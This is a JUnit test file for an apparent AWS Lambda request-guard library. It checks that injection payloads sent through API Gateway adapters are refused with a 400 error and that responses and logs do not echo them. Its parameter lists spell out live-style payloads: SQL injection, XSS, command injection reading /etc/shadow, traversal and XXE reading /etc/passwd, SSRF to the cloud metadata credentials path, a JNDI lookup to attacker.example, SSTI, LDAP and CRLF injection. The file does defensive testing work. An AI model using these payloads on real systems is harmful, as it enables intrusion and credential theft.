package dev.lambdaguard.aws.input;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.amazonaws.services.lambda.runtime.RequestHandler;
import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyRequestEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyResponseEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPResponse;
import dev.lambdaguard.Guard;
import dev.lambdaguard.aws.Fixtures;
import dev.lambdaguard.aws.GuardedRequestHandler;
import dev.lambdaguard.aws.TestContext;
import dev.lambdaguard.aws.events.RuntimeSerialization;
import dev.lambdaguard.events.EventJson;
import dev.lambdaguard.events.Redactor;
import dev.lambdaguard.events.StdoutJsonSink;
import dev.lambdaguard.input.InputPolicy;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.ObjectMapper;

/**
 * Every category, each through the real HTTP API and REST API adapters and a guarded handler, in the position an
 * attacker would use: the handler never runs, the answer is 400 {@code injection_detected}, the event names the
 * category, the rule and the field, and neither the answer nor the event repeats the payload.
 */
class InputDefenseThroughHandlerTest {

  final ByteArrayOutputStream written = new ByteArrayOutputStream();
  final AtomicInteger handlerCalls = new AtomicInteger();
  final Guard guard = Guard.builder().environment(Map.of())
      .eventSink(new StdoutJsonSink(new EventJson(new Redactor()), () -> new PrintStream(written, true, StandardCharsets.UTF_8)))
      .inputInspection(InputPolicy.defaults()).build();

  @ParameterizedTest(name = "{0} in {1}")
  @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
      "sqli|query|`' UNION SELECT username, password FROM users--`",
      "xss|json|`<svg/onload=alert(document.domain)>`",
      "cmdi|query|`; cat /etc/shadow`",
      "path|query|`../../../../etc/passwd`",
      "ssrf|json|`http://169.254.169.254/latest/meta-data/iam/security-credentials/`",
      "nosqli|json-key|`$where`",
      "ldap|query|`*)(uid=*))(|(uid=*`",
      "ssti|json|`{{''.__class__.__mro__[1].__subclasses__()}}`",
      "jndi|header|`${${lower:j}ndi:ldap://attacker.example/a}`",
      "xxe|body|`<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>`",
      "crlf|query|`en\r\nSet-Cookie: session=attacker`",
      "proto|json-key|`__proto__`",
  })
  void eachCategoryIsRefusedThroughTheHttpApiHandler(String category, String position, String payload) {
    APIGatewayV2HTTPEvent event = RuntimeSerialization.fromJson(APIGatewayV2HTTPEvent.class,
        Fixtures.bytes("apigw-http-v2", "no-authorizer.json"));
    Map<String, String> headers = new HashMap<>(event.getHeaders());
    switch (position) {
      case "query" -> event.setQueryStringParameters(Map.of("q", payload));
      case "header" -> headers.put("user-agent", payload);
      case "json" -> json(event, headers, "{\"note\":" + quote(payload) + "}");
      case "json-key" -> json(event, headers, "{\"filter\":{" + quote(payload) + ":{\"x\":1}}}");
      case "body" -> {
        headers.put("content-type", "application/xml");
        event.setBody(payload);
      }
      default -> throw new IllegalArgumentException(position);
    }
    event.setHeaders(headers);
    RequestHandler<APIGatewayV2HTTPEvent, APIGatewayV2HTTPResponse> handler = GuardedRequestHandler.wrap((e, c) -> {
      handlerCalls.incrementAndGet();
      return new APIGatewayV2HTTPResponse();
    }, guard);
    APIGatewayV2HTTPResponse response = handler.handleRequest(event, new TestContext("inj-" + category));
    assertEquals(400, response.getStatusCode());
    assertEquals("injection_detected", new ObjectMapper().readTree(response.getBody()).get("error").asString());
    assertEquals(0, handlerCalls.get());
    String events = written.toString(StandardCharsets.UTF_8);
    assertTrue(events.contains("\"category\":\"" + category + "\""), events);
    assertTrue(events.contains("\"rule_id\":\"" + category + "."), events);
    String distinctive = payload.length() > 12 ? payload.substring(2, 12) : payload;
    assertFalse(response.getBody().contains(distinctive), "the answer repeats the payload");
    assertFalse(events.contains(distinctive), "the event repeats the payload: " + events);
  }

  @ParameterizedTest(name = "REST API: {0}")
  @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
      "sqli|`1' AND SLEEP(5)#`",
      "path|`..%252f..%252f..%252fetc%252fpasswd`",
      "benign|`O'Brien's select blend`",
  })
  void theRestApiAdapterCarriesTheSameVerdict(String category, String value) {
    APIGatewayProxyRequestEvent event = RuntimeSerialization.fromJson(APIGatewayProxyRequestEvent.class,
        Fixtures.bytes("apigw-rest-v1", "no-auth.json"));
    event.setQueryStringParameters(Map.of("q", value));
    event.setMultiValueQueryStringParameters(Map.of("q", java.util.List.of(value)));
    RequestHandler<APIGatewayProxyRequestEvent, APIGatewayProxyResponseEvent> handler = GuardedRequestHandler.wrap(
        (e, c) -> new APIGatewayProxyResponseEvent().withStatusCode(200), guard);
    int status = handler.handleRequest(event, new TestContext("rest-" + category)).getStatusCode();
    assertEquals(category.equals("benign") ? 200 : 400, status);
  }

  private static void json(APIGatewayV2HTTPEvent event, Map<String, String> headers, String body) {
    headers.put("content-type", "application/json");
    event.setBody(body);
    event.setIsBase64Encoded(false);
  }

  private static String quote(String s) {
    return dev.lambdaguard.events.JsonText.quote(s);
  }
}
